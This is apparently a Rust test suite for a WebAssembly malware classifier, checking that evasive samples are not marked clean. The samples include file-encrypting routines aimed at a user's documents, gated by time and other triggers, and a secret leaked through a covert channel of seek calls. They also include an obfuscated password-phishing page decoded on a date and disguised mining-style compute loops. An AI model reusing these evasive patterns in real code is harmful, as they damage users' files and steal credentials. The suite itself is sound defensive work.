//! What a call that was skipped would have done, and what decided that it was: a flag, a table, an order of
//! calls. And what lies hidden in a module of a page until its host says a word.

use super::{Class, at_least, class, files, program};

/// Encrypts the file at a path.
const SEAL: &str = r#"
  (func $seal (param $at i32) (param $len i32) (local $fd i32) (local $n i32)
    (local.set $fd (call $open (local.get $at) (local.get $len) (i32.const 0)))
    (local.set $n (call $read (local.get $fd)))
    (call $crypt (local.get $n) (i32.const 255))
    (drop (call $fd_seek (local.get $fd) (i64.const 0) (i32.const 0) (i32.const 24)))
    (call $write (local.get $fd) (i32.const 4096) (local.get $n)))
"#;
/// Its own file, and that of the user.
const OWN: &str = "(drop (call $temporary)) (call $seal (i32.const 1220) (i32.const 6))";
const USERS: &str = "(call $seal (i32.const 1100) (i32.const 30))";
const IS_LATE: &str = "(i64.gt_u (i64.load (i32.const 64)) (i64.const 0x7000000000000000))";
const ASKS: &str = "(drop (call $clock (i32.const 0) (i64.const 1) (i32.const 64)))";

/// A program that seals its own file, and then does something; with more items.
fn sealing(items: &str, body: &str) -> String {
    files(&format!(r#"{SEAL} {items} (func (export "_start") (local $n i32) (local $i i32) {OWN} {body})"#))
}

#[test]
fn a_call_that_was_skipped_would_have_met_another_file() {
    let guarded = |by: &str| sealing("", &format!("(if {by} (then {USERS}))"));
    let flag = format!(
        "(if (i32.eq (memory.grow (i32.const 20000)) (i32.const -1)) (then (local.set $n (i32.const 1))))
        (if (local.get $n) (then {USERS}))"
    );
    let reference = format!(
        "(if (i32.ge_u (memory.size) (i32.const 90)) (then (table.set (i32.const 0) (ref.func $read))))
        (if (i32.eqz (ref.is_null (table.get (i32.const 0)))) (then {USERS}))"
    );
    at_least(
        Class::Undecided,
        &[
            ("memory", guarded("(i32.gt_u (memory.size) (i32.const 90))")),
            (
                "bits of a float",
                guarded(
                    "(i32.gt_s (i32.reinterpret_f32 (f32.div (f32.load (i32.const 5000)) (f32.load (i32.const 5000)))) (i32.const 0))",
                ),
            ),
            ("a flag", sealing("", &flag)),
            ("a reference", sealing("(table 1 funcref) (elem declare func $read)", &reference)),
        ],
    );
    assert_eq!(class(&sealing("", "")), Class::Clean);
}

#[test]
fn a_state_of_several_exports_is_none_that_a_run_comes_to() {
    let items = |left: &str, asks: &str| {
        files(&format!(
            r#"{SEAL} (global $state (mut i32) (i32.const 7))
            (func $turn (param i32)
              (global.set $state (i32.xor (i32.mul (global.get $state) (i32.const 0x9e3779b1)) (local.get 0))))
            (func (export "left") {left}) (func (export "right") (call $turn (i32.const 2)))
            (func (export "save") {OWN} (if {asks} (then {USERS}))) (func (export "_initialize") {OWN})"#
        ))
    };
    let code = "(i32.eq (global.get $state) (i32.const 0x1234567))";
    at_least(
        Class::Undecided,
        &[
            ("an order", items("(call $turn (i32.const 1))", code)),
            (
                "before a trap",
                items("(global.set $state (i32.const 0)) unreachable", "(i32.eqz (global.get $state))"),
            ),
        ],
    );
}

#[test]
fn the_time_may_choose_what_lies_in_a_table_or_in_memory() {
    let idle: String = (0..40).map(|number| format!("(func $idle{number})")).collect();
    let names: String = (0..40).map(|number| format!(" $idle{number}")).collect();
    let table = format!(
        "{idle} (func $late {USERS}) (table 44 44 funcref) (elem (i32.const 0) $idle0 $idle0 $late $idle0 {names})"
    );
    let copied = |from: &str, len: &str| {
        let copies = format!("{ASKS} (table.copy (i32.const 0) {from} {len}) (call_indirect (i32.const 0))");
        sealing(&table, &copies)
    };
    let swapped = format!(
        "{ASKS} (drop (i32.atomic.rmw.cmpxchg (i32.const 60) (i32.eqz {IS_LATE}) (i32.const 120)))
         (call $seal (i32.sub (i32.const 1220) (i32.load (i32.const 60))) (i32.const 6))"
    );
    let placed = format!(
        "{ASKS} (memory.init $paths (i32.const 3000) (i32.mul (i32.const 6) {IS_LATE}) (i32.const 6))
         (call $seal (i32.const 3000) (i32.const 6))"
    );
    let paths = r#"(data $paths "tmp/zzhome/u")"#;
    at_least(
        Class::Undecided,
        &[
            ("where from", copied(&format!("(i32.add (i32.const 1) {IS_LATE})"), "(i32.const 1)")),
            ("how many", copied("(i32.const 2)", IS_LATE)),
            ("an exchange", sealing("", &swapped)),
            ("a segment", sealing(paths, &placed)),
        ],
    );
}

#[test]
fn what_was_not_followed_may_choose_the_file_that_is_written() {
    let burns = "(loop $more (i32.store offset=10000 (i32.and (local.get $i) (i32.const 255))
          (i32.add (i32.load (i32.const 64)) (local.get $i)))
        (br_if $more (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 3000000))))";
    let body = format!(
        "{ASKS} {burns} (call $seal (i32.sub (i32.const 1220) (i32.mul (i32.const 120) {IS_LATE})) (i32.const 6))"
    );
    at_least(Class::Undecided, &[("burned", sealing("", &body))]);
}

#[test]
fn a_document_that_nobody_named_is_nothing_to_print_or_to_keep() {
    let bits = "(local.set $n (i32.mul (call $secret) (i32.const 8)))
        (loop $bit
          (if (i32.and (i32.const 1) (i32.shr_u (i32.load8_u offset=4096 (i32.shr_u (local.get $i) (i32.const 3)))
                (i32.and (local.get $i) (i32.const 7))))
            (then (drop (call $fd_seek (i32.const 1) (i64.const 0) (i32.const 0) (i32.const 24))))
            (else (drop (call $fd_seek (i32.const 0) (i64.const 0) (i32.const 0) (i32.const 24)))))
          (br_if $bit (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $n))))";
    at_least(
        Class::Undecided,
        &[
            ("printed", program("(call $write (i32.const 1) (i32.const 4096) (call $secret))")),
            ("left in memory", program("(drop (call $secret))")),
            ("by calls of two streams", program(bits)),
        ],
    );
}

/// A page in other letters, a function that puts it together, and an export that calls that.
fn page(imports: &str, export: &str) -> String {
    let page = "<!doctype html><form action='https://sign-in.example/s'><input type='password'></form>";
    let data: String = page
        .bytes()
        .zip(0u8..)
        .map(|(letter, at)| format!("\\{:02x}", (letter ^ 0x5a).wrapping_add(at)))
        .collect();
    let len = page.len();
    format!(
        r#"(module {imports} (memory (export "memory") 1) (data (i32.const 1024) "{data}")
        (func $build (local $i i32)
          (loop $letter
            (i32.store8 offset=5000 (local.get $i) (i32.xor (i32.const 0x5a)
              (i32.and (i32.const 255) (i32.sub (i32.load8_u offset=1024 (local.get $i)) (local.get $i)))))
            (br_if $letter (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const {len})))))
        {export})"#
    )
}

#[test]
fn a_page_that_is_put_together_later_is_one() {
    let now =
        r#"(import "env" "emscripten_date_now" (func $now (result f64))) (import "page" "go" (func $go))"#;
    let given = r#"(import "page" "g" (func $g (param i32) (result funcref)))"#;
    let hash = "(i32.mul (i32.trunc_sat_f64_u (local.get 0)) (i32.const 0x9e3779b1))";
    at_least(
        Class::Undecided,
        &[
            (
                "a date",
                page(
                    now,
                    r#"(func (export "show") (result i32)
                (if (f64.gt (call $now) (f64.const 1.9e12)) (then (call $build))) (i32.const 5000))"#,
                ),
            ),
            (
                "a word of its host",
                page(
                    now,
                    r#"(func (export "show")
                (if (f64.gt (call $now) (f64.const 1.9e12)) (then (call $build) (call $go))))"#,
                ),
            ),
            (
                "a number",
                page(
                    "",
                    &format!(
                        r#"(func (export "show") (param f64)
                (if (i32.eq {hash} (i32.const 459238720)) (then (call $build))))"#
                    ),
                ),
            ),
            (
                "a function of its host",
                page(
                    given,
                    r#"(table 1 funcref)
                (func (export "show") (table.set (i32.const 0) (call $g (i32.const 7))))"#,
                ),
            ),
        ],
    );
}

#[test]
fn a_key_that_stands_in_a_global_of_the_host_decides_what_is_handed_over() {
    let text = r#"(module (import "page" "q" (func $q (param i32 i32))) (import "page" "k" (global $k i32))
        (memory (export "memory") 1) (data (i32.const 1024) "%d0-%)x2/w,)z!&#c<2%$n+m)#l1x0(v9z8x7#w@e+r=t")
        (func (export "draw") (local $i i32)
          (loop $letter
            (i32.store8 offset=5000 (local.get $i) (i32.xor (i32.load8_u offset=1024 (local.get $i))
              (i32.shr_u (global.get $k) (i32.shl (i32.and (local.get $i) (i32.const 3)) (i32.const 3)))))
            (br_if $letter (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 45))))
          (call $q (i32.const 5000) (i32.const 45))))"#;
    at_least(Class::Undecided, &[("a global", text.into())]);
}

/// A program of Emscripten that seals a file by its path.
#[test]
fn a_path_of_a_user_in_a_call_that_was_skipped_is_what_it_is_for() {
    let program = |skipped: &str| {
        format!(
            r#"(module (import "env" "__syscall_openat" (func $open (param i32 i32 i32 i32) (result i32)))
            (memory (export "memory") 1)
            (data (i32.const 1024) "/home/user/documents/ledger.csv\00")
            (data (i32.const 1100) "/tmp/one/two/own\00") (data (i32.const 200) "\01\02\00\00")
            (func $seal (param $path i32)
              (drop (call $open (i32.const -100) (local.get $path) (i32.load (i32.const 200)) (i32.const 0))))
            (func (export "main") (param i32 i32) (result i32) (call $seal (i32.const 1100))
              (if (i32.gt_s (local.get 0) (i32.const 4)) (then {skipped})) (i32.const 0)))"#
        )
    };
    at_least(Class::Undecided, &[("a document", program("(call $seal (i32.const 1024))"))]);
    assert_eq!(class(&program("(call $seal (i32.const 1100))")), Class::Clean);
}

/// No operator of a hash: tables of sums and rotations by words that overlap, or products and quotients.
#[test]
fn a_kernel_is_known_by_what_it_does_to_its_state() {
    let table: String = (0..256).map(|at| format!("\\{:02x}", (at >> 4) ^ (at & 15))).collect();
    let nibble = |place: u32| {
        format!(
            "(i32.mul (i32.const {unit}) (i32.load8_u offset=1024 (i32.add
               (i32.mul (i32.rem_u (i32.div_u (local.get $p) (i32.const {unit})) (i32.const 16)) (i32.const 16))
               (i32.rem_u (i32.div_u (local.get $q) (i32.const {unit})) (i32.const 16)))))",
            unit = 1u32 << (4 * place)
        )
    };
    let sum = (0..8).map(nibble).reduce(|sum, one| format!("(i32.add {sum} {one})")).unwrap_or_default();
    let looked_up = format!(
        r#"(module (memory (export "memory") 1) (data (i32.const 1024) "{table}")
        (func $x (param $p i32) (param $q i32) (result i32) {sum})
        (func $turn (param i32) (result i32) (i32.store (i32.const 100) (local.get 0))
          (i32.store (i32.const 104) (local.get 0)) (i32.load (i32.const 102)))
        (func (export "_start") (local $a i32) (local $b i32) (local $c i32) (local $d i32) (local $i i32)
          (local.set $a (i32.const 0x61707865)) (local.set $b (i32.const 0x3320646e))
          (loop $n
            (local.set $a (i32.add (local.get $a) (local.get $b)))
            (local.set $d (call $turn (call $x (local.get $d) (local.get $a))))
            (local.set $c (i32.add (local.get $c) (local.get $d)))
            (local.set $b (call $turn (call $x (local.get $b) (local.get $c))))
            (br_if $n (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 500000))))))"#
    );
    let round = "(local.set $a (i32.add (i32.mul (local.get $a) (i32.const 0x9e3779b1))
            (i32.div_u (local.get $b) (i32.const 65537))))
        (local.set $b (i32.sub (i32.mul (local.get $b) (i32.const 0x85ebca6b))
            (i32.div_u (local.get $a) (i32.const 8191))))";
    let multiplied = |round: &str| {
        format!(
            r#"(module (func (export "_start") (local $a i32) (local $b i32) (local $i i32)
            (local.set $a (i32.const 7))
            (loop $n {round} {round}
              (br_if $n (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 4500000))))))"#
        )
    };
    let word = |at: u32| format!("(i32.load offset={} (i32.const 64))", 4 * (at % 4));
    let put = |at: u32| {
        format!(
            "(i32.store offset={} (i32.const 64) (i32.add (i32.mul {} (i32.const 0x9e3779b1))
               (i32.div_u {} (i32.const 65537))))",
            4 * at,
            word(at),
            word(at + 1)
        )
    };
    let in_memory = format!(
        r#"(module (memory (export "memory") 1) (func (export "_start") (local $i i32)
          (i32.store offset=4 (i32.const 64) (i32.const 7))
          (loop $n {} (br_if $n
            (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 3000000))))))"#,
        (0..4).map(put).collect::<String>()
    );
    at_least(
        Class::Undecided,
        &[("looked up", looked_up), ("multiplied", multiplied(round)), ("in memory", in_memory)],
    );
    // Numbers of a generator, and their sum.
    let drawn = "(local.set $a (i32.add (i32.mul (local.get $a) (i32.const 1103515245)) (i32.const 12345)))
        (local.set $b (i32.add (local.get $b) (i32.div_u (local.get $a) (i32.const 65537))))";
    assert_eq!(class(&multiplied(drawn)), Class::Clean);
}

/// Work that is handed over with a call, or asked for without arguments.
#[test]
fn a_job_of_a_page_is_one_without_words() {
    let round = "(local.set $a (i32.add (local.get $a) (local.get $b)))
        (local.set $b (i32.rotl (i32.xor (local.get $b) (local.get $a)) (i32.const 12)))";
    let job = |import: &str, export: &str, begin: &str, rounds: u32| {
        format!(
            r#"(module {import} (memory (export "memory") 1)
            (func (export "job") {export} (local $a i32) (local $b i32) (local $i i32)
              (local.set $a {begin}) (local.set $b (i32.const 0x3320646e))
              (loop $n {} (if (i32.eqz (local.get $a)) (then (return (local.get $i))))
                (br_if $n (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const {rounds}))))
              (i32.const -1)))"#,
            round.repeat(4)
        )
    };
    at_least(
        Class::Undecided,
        &[
            ("handed over", job("", "(param i32 i32) (result i32)", "(local.get 0)", 600_000)),
            (
                "asked for",
                job(r#"(import "p" "a" (func $w (result i32)))"#, "(result i32)", "(call $w)", 900_000),
            ),
        ],
    );
}
